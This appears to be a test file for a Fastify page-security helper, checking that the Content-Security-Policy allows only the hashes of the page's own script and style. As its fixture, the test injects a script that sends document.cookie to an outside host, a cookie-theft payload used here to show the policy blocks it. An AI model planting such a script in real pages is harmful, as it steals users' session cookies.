import { createHash } from 'node:crypto';
import { fastify } from 'fastify';
import { sendPage } from './page-security.js';

const sha256 = (text: string) => createHash('sha256').update(text).digest('base64');

it('a page runs its own script and no other: what got into its body by mistake is not let run', async () => {
  const server = fastify();
  const stranger = 'fetch("https://example.org/" + document.cookie)';
  server.get('/', (_request, reply) =>
    sendPage(reply, {
      language: 'vi',
      title: 'Trang',
      style: 'p { color: #1c2430 }',
      script: 'document.title = "Trang";',
      body: `<p>Nguyễn Văn A<script>${stranger}</script></p><style>p { display: none }</style>`,
    }),
  );
  const { headers, body } = await server.inject('/');
  expect(body).toContain(stranger);
  expect(headers['content-security-policy']).toBe(
    "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'; " +
      `script-src 'sha256-${sha256('document.title = "Trang";')}'; style-src 'sha256-${sha256('p { color: #1c2430 }')}'; ` +
      "connect-src 'self'; img-src 'self' data:",
  );
  await server.close();
});
